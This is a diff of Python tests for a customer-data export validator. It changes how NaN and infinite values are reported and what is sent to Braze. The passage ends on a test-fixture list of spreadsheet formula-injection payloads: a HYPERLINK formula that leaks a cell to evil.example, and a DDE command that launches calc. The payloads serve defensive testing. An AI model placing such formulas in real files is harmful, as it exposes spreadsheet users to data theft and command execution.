@@ -15,6 +15,7 @@ from toolkit.engage.validation import MAX_ROW_FINDINGS
 from toolkit.mapping import Mapping
 
 BLANK = "read as blank, like an empty cell"
+LEFT_OUT = "left out: nothing is sent for it, and a value Braze already holds is kept"
 
 
 def _csv(write, column: str, cells: list[str], name: str = "shoppers.csv"):
@@ -32,13 +33,18 @@ def test_nan_and_infinities_keep_a_number_column_numeric(write):
     values = export.profiles["revenue"]
     assert str(values.dtype) == "Float64"
     assert values.tolist()[0] == 12.5 and values.tolist()[4] == 7
-    assert values.isna().tolist() == [False, True, True, True, False, True, True]
+    # NaN is no value (blank); an infinity stays the number it is, for the plan to leave out
+    assert values.isna().tolist() == [False, True, False, False, False, True, False]
+    assert values.tolist()[2] == np.inf and values.tolist()[3] == -np.inf
     odd = _by_row(export.findings, "non_finite_number", "revenue")
     assert sorted(odd) == [2, 3, 4, 6, 7]
     assert "NaN" in odd[2].message and BLANK in odd[2].message
     assert odd[2].message == odd[6].message          # one message per kind: "nan" and "NaN"
     assert "+inf" in odd[3].message and "-inf" in odd[4].message
     assert odd[4].message == odd[7].message
+    assert LEFT_OUT in odd[3].message and BLANK not in odd[3].message
+    sent = Mapping.from_export(export).attribute_values(export)["revenue"].tolist()
+    assert sent[0] == 12.5 and sent[4] == 7 and all(sent[i] is pd.NA for i in (1, 2, 3, 5, 6))
     assert odd[3].segment_id == "use_3" and odd[3].severity == "warning"
     assert not export.findings.of("type_drift")
 
@@ -54,8 +60,8 @@ def test_a_single_nan_after_a_number_is_reported(write):
 def test_overflowing_number_is_infinite_and_reported(write):
     export = _csv(write, "revenue", ["1", "1e999", "2"])
     (odd,) = export.findings.of("non_finite_number")
-    assert odd.row == 2 and "+inf" in odd.message
-    assert export.profiles["revenue"].isna().tolist() == [False, True, False]
+    assert odd.row == 2 and "+inf" in odd.message and LEFT_OUT in odd.message
+    assert export.profiles["revenue"].tolist()[1] == np.inf
 
 
 def test_odd_values_far_down_a_large_column_are_found(write):
@@ -108,6 +114,19 @@ def test_a_text_column_named_infinity_is_text(write):
     assert not export.findings.of("non_finite_number")
 
 
+def test_a_column_of_nan_alone_is_a_blank_number_column(write):
+    export = _csv(write, "revenue", ["nan", "", "NaN"])
+    assert export.computation("revenue")["value_type"] == "number"
+    assert export.profiles["revenue"].isna().all()
+    assert sorted(_by_row(export.findings, "non_finite_number", "revenue")) == [1, 3]
+
+
+def test_names_that_spell_nan_in_a_text_column_stay_text(write):
+    export = _csv(write, "first_name", ["Nan", "Ann", "Bob"])
+    assert export.profiles["first_name"].tolist() == ["Nan", "Ann", "Bob"]
+    assert not export.findings.of("non_finite_number")
+
+
 def test_booleans_neither_true_nor_false_are_reported_with_rows(write):
     export = _csv(write, "flag", ["true", "maybe", "7", "false", "TRUE"])
     assert str(export.profiles["flag"].dtype) == "boolean"
@@ -131,8 +150,10 @@ def test_ndjson_nan_and_infinity_are_reported(write):
     odd = _by_row(export.findings, "non_finite_number", "revenue")
     assert sorted(odd) == [2, 3, 4, 5]
     assert "NaN" in odd[2].message and "+inf" in odd[3].message and "-inf" in odd[4].message
-    assert export.profiles["revenue"].notna().tolist() == [True, False, False, False, False,
-                                                           True]
+    assert export.profiles["revenue"].isna().tolist() == [False, True, False, False, False,
+                                                          False]
+    sent = Mapping.from_export(export).attribute_values(export)["revenue"]
+    assert sent.notna().tolist() == [True, False, False, False, False, True]
 
 
 def test_unformatted_csv_json_trait_nan_is_reported(write):
@@ -162,7 +183,7 @@ def test_profiles_sync_parquet_nan_and_inf_are_reported(tmp_path):
     assert str(export.profiles["ltv"].dtype) == "Float64"
     odd = _by_row(export.findings, "non_finite_number", "ltv")
     assert sorted(odd) == [2, 4]                  # row 3 is a plain null: no finding
-    assert export.profiles["ltv"].notna().tolist() == [True, False, False, False]
+    assert export.profiles["ltv"].isna().tolist() == [False, True, True, False]
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+SUM(1+1)*cmd|' /C calc'!A0",
